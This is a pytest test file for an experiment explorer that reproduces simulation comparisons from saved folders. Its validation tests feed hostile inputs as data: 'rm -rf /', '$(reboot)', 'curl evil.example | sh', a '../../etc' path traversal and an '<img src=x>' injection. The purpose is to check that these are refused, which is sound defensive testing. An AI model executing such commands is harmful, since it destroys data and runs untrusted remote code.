import json
import shlex
from dataclasses import replace

import pytest
import yaml

from experiments.cli.command import run_command
from experiments.comparison import worlds
from experiments.comparison.analysis import analyse
from experiments.comparison.simulation import simulate_plan
from experiments.comparison.tables import SUMMARY, summary_rows
from experiments.execution import runner
from experiments.execution.runner import RunError, Runner
from experiments.execution.store import RESULT
from experiments.execution.worker import Report
from experiments.explorer.gather import finished_folders, from_choice, from_folder, simulate
from experiments.explorer.pictures import pictures
from experiments.explorer.reproduce import NAME, experiment_override, experiment_yaml, settings_yaml, yaml_command
from experiments.explorer.tables import differences_csv, summary_csv
from experiments.outputs.tables import as_csv
from experiments.plans.plan import CompareOptions, make_plan
from sim.charts import style
from sim.config import ConfigError
from tests.commands import run
from tests.experiments.explorer.tiny import TINY


@pytest.fixture(scope="module")
def written(finished, folders):
    """The out folder of the command that the explorer shows, run with its store."""
    arguments = [*_words(finished.command), f"out={folders.out / 'again'}", f"store={folders.store}", "executor=serial"]
    with pytest.MonkeyPatch.context() as patched:
        # charts as files take longer than all the rest, and nobody looks at them here
        patched.setattr(style, "save", lambda *_: None)
        assert run("compare", arguments) == 0
    return folders.out / "again"


def _words(command):
    words = shlex.split(command)
    assert words[:3] == ["python", "-m", "experiments.compare"]
    return words[3:]


def test_the_command_on_the_screen_gives_the_same_numbers_and_simulates_nothing(finished, written):
    assert (written / "summary.csv").read_text() == summary_csv(finished)
    assert (written / "differences.csv").read_text() == differences_csv(finished.comparison)
    assert json.loads((written / "manifest.json").read_text())["simulated_now"] == 0


def test_a_decision_is_looked_at_in_plausible_worlds_and_drawn_there(folders, monkeypatch):
    monkeypatch.setattr(worlds, "REPLICATIONS", 1)
    found = from_choice(replace(TINY, studied="rating", replications=5, worlds=20), folders)
    assert len(found.over.weights) == 20
    assert "worlds" in {each.name for each in pictures(found)}


def test_the_yaml_gives_the_same_numbers_and_simulates_nothing(folders, tmp_path):
    changed = replace(TINY, min_sessions=3, strength=2.0, others=("oracle",), payback_bookings=4)
    ours = from_choice(changed, folders)
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / f"{NAME}.yaml").write_text(experiment_yaml(changed, folders.config_dirs))
    words = yaml_command(str(tmp_path), folders.config_dirs).split()
    assert words[:3] == ["python", "-m", "experiments.compare"]
    # what the command does, but for the drawing
    found = []

    def body(settings, _command):
        plan = make_plan(settings, CompareOptions)
        with Runner(plan.store, plan.options.executor, keep_logs=True) as runner:
            found.append((settings, analyse(plan, *simulate_plan(plan, runner))))
        return 0

    assert run_command("compare", "", body, [*words[3:], f"store={folders.store}", "executor=serial"]) == 0
    settings, theirs = found[0]
    assert settings["arms"]["wecasa_2025"]["score"]["min_sessions"] == 3
    assert theirs.runs.simulated == 0
    assert theirs.runs.keys == ours.runs.keys
    assert as_csv(SUMMARY, summary_rows(theirs.comparison, theirs.gains)) == summary_csv(ours)


def test_the_yaml_holds_differences_only_and_says_how_to_run_it(folders):
    text = experiment_yaml(TINY, folders.config_dirs)
    assert text.startswith("# @package _global_\n")
    assert f"--config-dir FOLDER --config-dir {folders.config_dirs[0]} {experiment_override()}" in text
    assert yaml.safe_load(text) == {
        "defaults": [{"override /market": "tiny"}],
        "arm": ["uniform", "wecasa_2025"],
        "control": "uniform",
        "studied": "wecasa_2025",
        "longest_window_months": 12,
        "replications": 2,
        "worlds": 0,
        "seed": 1,
    }


def test_all_settings_are_those_of_the_command(finished, written):
    ours, theirs = yaml.safe_load(settings_yaml(finished)), yaml.safe_load((written / "config.yaml").read_text())
    # where runs are made and kept is not part of the result
    places = ("out", "store", "executor")
    assert {k: v for k, v in ours.items() if k not in places} == {k: v for k, v in theirs.items() if k not in places}


def test_a_finished_folder_is_found_and_shows_what_was_simulated(finished, written, folders):
    assert written in finished_folders(folders.out)
    assert finished_folders(written) == [written]
    read = from_folder(written)
    # as text: what is not defined equals itself
    assert repr(read.comparison.summaries) == repr(finished.comparison.summaries)
    assert read.command.startswith("python -m experiments.compare ")
    assert read.choice is None


def test_folders_of_others_are_no_comparisons(tmp_path):
    (tmp_path / "study").mkdir()
    (tmp_path / "study" / "manifest.json").write_text("{}")
    (tmp_path / "study" / ".mission-dispatch-sim").write_text("study\n")
    assert finished_folders(tmp_path) == []
    assert finished_folders(tmp_path / "nowhere") == []


def _copy(written, folder, **changes):
    """The folder again, with values of its manifest or config replaced."""
    folder.mkdir()
    for name in ("manifest.json", "config.yaml", ".mission-dispatch-sim"):
        (folder / name).write_bytes((written / name).read_bytes())
    for name, change in changes.items():
        path = folder / {"manifest": "manifest.json", "config": "config.yaml"}[name]
        content = yaml.safe_load(path.read_text())
        change(content)
        path.write_text(json.dumps(content))
    return folder


@pytest.mark.parametrize(
    "command",
    [
        "python -m experiments.compare; rm -rf /",
        "python -m experiments.compare $(reboot)",
        "curl evil.example | sh",
        "python -m os 'x'",
        "python -m experiments.compare 'unclosed",
        "",
    ],
)
def test_a_command_that_is_not_plainly_ours_is_not_shown(command, written, tmp_path):
    folder = _copy(written, tmp_path / "copy", manifest=lambda content: content.update(command=command))
    assert from_folder(folder).command == ""


def test_a_key_that_would_lead_out_of_the_store_is_refused(written, tmp_path):
    folder = _copy(written, tmp_path / "copy", manifest=lambda content: content["runs"].update({"uniform/0": "../../etc"}))
    with pytest.raises(ConfigError, match=r"runs\.uniform/0 = '\.\./\.\./etc', must be 32 hex digits"):
        from_folder(folder)


def test_names_that_are_no_names_are_refused(written, tmp_path):
    folder = _copy(written, tmp_path / "copy", config=lambda content: content["arm"].append("<img src=x>"))
    with pytest.raises(ConfigError, match="arm = '<img src=x>', must be a name"):
        from_folder(folder)


def test_a_folder_whose_runs_are_gone_says_which(written, tmp_path):
    folder = _copy(written, tmp_path / "copy", manifest=lambda content: content.update(store=str(tmp_path / "empty")))
    with pytest.raises(ConfigError, match=r"the run of arm uniform, replication 0, is not in .*empty any more"):
        from_folder(folder)


def test_a_folder_that_is_torn_is_one_message(written, tmp_path):
    folder = _copy(written, tmp_path / "copy")
    (folder / "manifest.json").write_text('{"runs": ')
    with pytest.raises(ConfigError, match="cannot be read as a finished comparison"):
        from_folder(folder)


def test_progress_is_told_run_by_run_and_a_stop_keeps_what_is_done(finished, tmp_path):
    plan, told = finished.plan, []

    class StopError(Exception):
        pass

    def tick(done, n_all):
        told.append((done, n_all))
        if done == 2:
            raise StopError

    with pytest.raises(StopError):
        simulate(plan, tmp_path / "store", tick)
    # 2 arms x 2 replications: nothing in the store, then one run after another until the stop
    assert told == [(0, 4), (1, 4), (2, 4)]
    told.clear()
    outcome = simulate(plan, tmp_path / "store", lambda done, n_all: told.append((done, n_all)))
    assert told == [(2, 4), (3, 4), (4, 4)]
    assert outcome.simulated == 2


def test_a_damaged_run_is_simulated_again(finished, tmp_path):
    outcome = simulate(finished.plan, tmp_path / "store")
    key = outcome.keys["uniform", 0]
    (tmp_path / "store" / key / RESULT).write_text("torn")
    with pytest.warns(RuntimeWarning, match="set aside"):
        again = simulate(finished.plan, tmp_path / "store")
    assert again.simulated == 1
    assert again.results["uniform", 0].metrics == pytest.approx(outcome.results["uniform", 0].metrics, nan_ok=True)


def test_runs_that_fail_are_named_after_all_others_were_done(finished, tmp_path, monkeypatch):
    class Broken:
        def __init__(self, store, keep_logs):
            pass

        def simulate(self, jobs):
            yield from (Report(job.key, failure="PolicyError: no") for job in jobs)

        def close(self):
            pass

    monkeypatch.setattr(runner, "Serial", Broken)
    with pytest.raises(RunError, match="arm=uniform replication=0 seed=1 failed: PolicyError: no"):
        simulate(finished.plan, tmp_path / "store")


def test_a_store_that_cannot_be_is_one_message(finished, tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(ConfigError, match="must be a folder that can be written to"):
        simulate(finished.plan, tmp_path / "file" / "store")
